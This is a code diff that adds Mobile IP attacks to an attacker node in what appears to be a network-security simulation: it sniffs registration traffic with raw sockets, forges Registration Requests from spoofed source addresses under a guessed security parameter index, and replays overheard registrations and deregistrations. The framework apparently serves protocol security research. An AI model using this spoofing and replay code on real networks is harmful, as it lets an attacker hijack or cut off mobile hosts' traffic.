@@ -13,12 +13,17 @@ import struct
 from ipaddress import IPv4Address
 from typing import Any, Final
 
-from nodes.agent import Agent
+from nodes.agent import Agent, now_ns
 from nodes.rewriter import parameter
 from protocols import ip
 from protocols.errors import DecodeError
 from protocols.forging import Caller, Overheard, Signing
+from protocols.mobileip.authentication import SecurityAssociation, sign
+from protocols.mobileip.extensions import MOBILE_HOME
+from protocols.mobileip.identification import timestamp
+from protocols.mobileip.registration import PORT, RegistrationRequest, RequestFlags
 from protocols.rewriting import OWN_IDS
+from protocols.transport import Udp
 
 _ETH_P_ALL: Final = 0x0003
 _OUTGOING: Final = 4  # PACKET_OUTGOING
@@ -26,7 +31,7 @@ _RAW_IP: Final = 101  # LINKTYPE_RAW
 _SCTP, _UDP = 132, 17
 _IP: Final = struct.Struct("!BBHHHBBH4s4s")
 _UDP_HEADER: Final = struct.Struct("!HHHH")
-_REGISTRATION: Final = 434
+_SPI: Final = 256  # that of every mobile node here, and easy to guess
 
 
 class AttackerNode(Agent):
@@ -39,6 +44,7 @@ class AttackerNode(Agent):
         self._told = False
         self._own: set[IPv4Address] = set()
         self._caller: Caller | None = None
+        self._requests: dict[bool, tuple[IPv4Address, IPv4Address, bytes]] = {}
         self._out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
         self._in = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL))
         self._in.setblocking(False)
@@ -85,6 +91,36 @@ class AttackerNode(Agent):
         """Send the overheard COOKIE-ECHO once more, from ``source``."""
         self._attack(act, IPv4Address(source), self._known.cookie_echo)
 
+    def do_register(
+        self,
+        act: int,
+        source: str,
+        home_address: str,
+        home_agent: str,
+        care_of: str,
+        lifetime: int,
+        authenticated: bool,
+    ) -> None:
+        """Send a Registration Request in the mobile node's name, signed with a made-up key or not at all."""
+        request = RegistrationRequest(
+            RequestFlags.D,
+            lifetime,
+            IPv4Address(home_address),
+            IPv4Address(home_agent),
+            IPv4Address(care_of),
+            timestamp(now_ns()),
+        )
+        if authenticated:
+            request = sign(request, MOBILE_HOME, SecurityAssociation(_SPI, os.urandom(16)))
+        self._register(act, IPv4Address(source), IPv4Address(home_agent), request.encode())
+
+    def do_again(self, act: int, deregistration: bool) -> None:
+        """Send the last overheard registration (or deregistration) once more, from the address that it came from."""
+        if (overheard := self._requests.get(deregistration)) is None:
+            self.emit("attack.unsent", reason="no such registration was overheard")
+        else:
+            self._register(act, *overheard)
+
     # -- what passes -------------------------------------------------------------------------------------------------
 
     def _passing(self) -> None:
@@ -101,10 +137,14 @@ class AttackerNode(Agent):
             datagram = ip.decode(_RAW_IP, data)
         except DecodeError:
             return
-        if not isinstance(datagram, ip.Datagram) or datagram.protocol != _SCTP:
+        if not isinstance(datagram, ip.Datagram):
             return
         source, destination = datagram.source, datagram.destination
         if not isinstance(source, IPv4Address) or not isinstance(destination, IPv4Address):
+            return
+        if self._overhears and datagram.protocol == _UDP:
+            self._heard(source, destination, datagram.payload)
+        if datagram.protocol != _SCTP:
             return
         if self._overhears:
             self._learn(source, destination, datagram.payload)
@@ -126,6 +166,15 @@ class AttackerNode(Agent):
                 dport=known.dport,
             )
 
+    def _heard(self, source: IPv4Address, destination: IPv4Address, data: bytes) -> None:
+        try:
+            udp = Udp.decode(data)
+            request = RegistrationRequest.decode(udp.payload)
+        except DecodeError:
+            return
+        if udp.dport == PORT:
+            self._requests[request.deregisters] = source, destination, udp.payload
+
     # -- what is sent ------------------------------------------------------------------------------------------------
 
     def _call(self, act: int, source: str, addresses: list[str]) -> None:
@@ -139,8 +188,15 @@ class AttackerNode(Agent):
         if destination is None:
             self.emit("attack.unsent", reason="no association was overheard")
             return
-        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=forged)
+        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=forged, udp=False)
         self._put(source, destination, _SCTP, data)
+
+    def _register(self, act: int, source: IPv4Address, destination: IPv4Address, data: bytes) -> None:
+        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=True, udp=True)
+        header = _UDP_HEADER.pack(
+            PORT, PORT, _UDP_HEADER.size + len(data), 0
+        )  # IPv4 lets a checksum be left out
+        self._put(source, destination, _UDP, header + data)
 
     def _put(self, source: IPv4Address, destination: IPv4Address, protocol: int, data: bytes) -> None:
         header = _IP.pack(0x45, 0, 20 + len(data), 0, 0, 64, protocol, 0, source.packed, destination.packed)
